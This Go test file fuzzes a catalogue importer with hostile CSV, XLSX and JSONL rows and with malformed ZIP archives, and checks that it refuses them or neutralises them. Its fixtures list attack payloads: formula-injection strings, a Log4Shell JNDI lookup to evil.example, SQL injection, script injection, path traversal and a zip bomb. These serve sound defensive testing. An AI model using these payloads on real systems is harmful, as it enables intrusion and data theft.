package importing

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"testing"

	"qiao/internal/catalogue/format"
	"qiao/internal/platform/dbtest"
	"qiao/internal/platform/fault"
	"qiao/internal/platform/sheet"
)

// hostileCells are what people and programs put into cells to do harm, or by accident.
func hostileCells(r *rand.Rand) []string {
	return []string{
		"=1+1", "=HYPERLINK(\"http://evil.example\",\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "=IMPORTXML(\"http://evil.example\")", "＝1+1",
		strings.Repeat("长", 40_000), strings.Repeat("a,\"", 5000), "\x00", "a\x00b", "\x1b[31m", "\u202egnp.exe", "\u2066x\u2069", "\ufeff\u200b", "\xff\xfe\xfd", "\U0010FFFF", "e" + strings.Repeat("\u0301", 3000),
		"<script>alert(1)</script>", "'; DROP TABLE catalogue_resource; --", "../../etc/passwd", "NaN", "1e309", "-0", "99999999999999999999", "2020-02-30", "0000-00-00", "null", "undefined", "{{7*7}}", "${jndi:ldap://evil.example}", "%s%n", "\"", "\n\n\n",
		strings.Repeat("(", r.IntN(2000)), string(rune(r.IntN(0x10FFFF))), fmt.Sprint(r.Int64()),
	}
}

// hostile makes a table of n rows: each odd one is good, each even one has harm in one of its cells.
func hostile(n int) [][]string {
	r := rand.New(rand.NewPCG(7, 7))
	rows := [][]string{{"仪器设备名称", "所在单位仪器编号", "规格型号", "启用日期", "原值（单位万元、保留小数点后两位）", "海关监管情况（是/否）", "电子邮箱", "预约服务网址", "计价单位", "对外单价（元）"}}
	for i := range n {
		row := []string{fmt.Sprintf("好仪器%d", i), fmt.Sprintf("H-%d", i), "M", "2020-01-02", "12.5", "是", "a@lab.example", "https://lab.example", "小时", "100"}
		if i%2 == 0 {
			bad := hostileCells(r)
			row[0] = fmt.Sprintf("怪仪器%d", i)
			row[r.IntN(len(row))] = bad[i/2%len(bad)]
		}
		rows = append(rows, row)
	}
	return rows
}

// A file of 1,000 hostile rows, in each shape of file, never panics, never blocks the good rows, and no cell of what is exported
// is a formula.
func TestAThousandHostileRows(t *testing.T) {
	const n = 1000
	rows := hostile(n)
	var asCSV, asXLSX, lines bytes.Buffer
	if err := csv.NewWriter(&asCSV).WriteAll(rows); err != nil {
		t.Fatal(err)
	}
	if err := sheet.WriteXLSX(&asXLSX, sheet.Page{Name: "a", Headings: rows[0], Rows: rows[1:]}); err != nil {
		t.Fatal(err)
	}
	for i, row := range rows[1:] {
		record := map[string]any{"kind": "instrument", "name_zh": row[0], "source_id": row[1], "model": row[2], "fields": map[string]any{"email": row[6], "commissioned": row[3], "worth": row[4], "image": []any{row[7], nil, map[string]any{}}}}
		if i%4 == 0 { // of wrong types, deep
			record["prices"], record["identifiers"], record["free"], record["access"] = row[9], row, row, map[string]any{"x": row}
		}
		b, err := json.Marshal(record)
		if err != nil {
			t.Fatal(err)
		}
		lines.Write(append(b, '\n'))
	}
	for name, text := range map[string]string{"h.csv": asCSV.String(), "h.xlsx": asXLSX.String(), "h.jsonl": lines.String()} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, dbtest.SQLite(t))
			r := w.take(w.Lab, name, text)
			good := 0
			for _, x := range w.all(w.Lab) {
				if strings.HasPrefix(x.NameZH, "好仪器") {
					good++
				}
			}
			if good != n/2 || r.Total < n-10 || r.Rejected < n/20 {
				t.Errorf("%d good rows, %v", good, counts(r))
			}
			var errs bytes.Buffer
			if err := w.WriteErrors(t.Context(), &errs, r); err != nil {
				t.Fatal(err)
			}
			noFormulas(t, errs.Bytes())
			for _, x := range w.records(w.Lab) { // as every table that leaves writes its cells
				for _, c := range format.UniquipRow(x) {
					if n := sheet.Neutral(c); computed(n) {
						t.Fatalf("%.60q would be computed", n)
					}
				}
			}
		})
	}
}

// noFormulas fails when a workbook has a cell that is computed.
func noFormulas(t *testing.T, data []byte) {
	t.Helper()
	if z, err := zip.NewReader(bytes.NewReader(data), int64(len(data))); err == nil {
		for _, f := range z.File {
			in, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			var b bytes.Buffer
			if _, err := b.ReadFrom(in); err != nil {
				t.Fatal(err)
			}
			if strings.HasSuffix(f.Name, ".xml") && (bytes.Contains(b.Bytes(), []byte("<f>")) || bytes.Contains(b.Bytes(), []byte("<f "))) {
				t.Errorf("%s has a formula", f.Name)
			}
		}
		return
	}
	t.Error("not a workbook")
}

// computed tells whether a spreadsheet program computes a cell of a text file.
func computed(c string) bool {
	_, err := strconv.ParseFloat(c, 64)
	return c != "" && err != nil && strings.ContainsRune("=+-@\t\r", rune(c[0]))
}

// Archives made to do harm are refused with a sentence, or read without their harm.
func TestHostileArchives(t *testing.T) {
	w := newWorld(t, dbtest.SQLite(t))
	var good bytes.Buffer
	if err := sheet.WriteXLSX(&good, sheet.Page{Name: "a", Headings: []string{"名称"}, Rows: [][]string{{"示例天平"}}}); err != nil {
		t.Fatal(err)
	}
	remade := func(change func(name string) (string, []byte)) []byte {
		in, err := zip.NewReader(bytes.NewReader(good.Bytes()), int64(good.Len()))
		if err != nil {
			t.Fatal(err)
		}
		var out bytes.Buffer
		z := zip.NewWriter(&out)
		for _, f := range in.File {
			r, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			var b bytes.Buffer
			if _, err := b.ReadFrom(r); err != nil {
				t.Fatal(err)
			}
			name, tail := change(f.Name)
			p, err := z.Create(name)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := p.Write(append(b.Bytes(), tail...)); err != nil {
				t.Fatal(err)
			}
		}
		if p, err := z.Create("../../../../tmp/evil.txt"); err != nil {
			t.Fatal(err)
		} else if _, err := p.Write([]byte("evil")); err != nil {
			t.Fatal(err)
		}
		if err := z.Close(); err != nil {
			t.Fatal(err)
		}
		return out.Bytes()
	}
	slip := remade(func(name string) (string, []byte) { return name, nil })
	if r := w.take(w.Lab, "slip.xlsx", string(slip)); r.Accepted != 1 {
		t.Errorf("a path that leads out: %+v", counts(r))
	}
	bomb := remade(func(name string) (string, []byte) {
		if strings.Contains(name, "sheet1") {
			return name, bytes.Repeat([]byte(" "), 256<<20)
		}
		return name, nil
	})
	for name, data := range map[string][]byte{"bomb.xlsx": bomb, "cut.xlsx": slip[:len(slip)/2], "head.xlsx": []byte("PK\x03\x04"), "nul.csv": bytes.Repeat([]byte{0}, 1000)} {
		if _, err := w.Import(t.Context(), w.Lab, Request{Org: w.Lab.Org, Name: name, Reader: bytes.NewReader(data)}); err == nil || fault.Of(err) == nil || fault.Of(err).Kind == fault.Internal {
			t.Errorf("%s: %v", name, err)
		}
	}
}
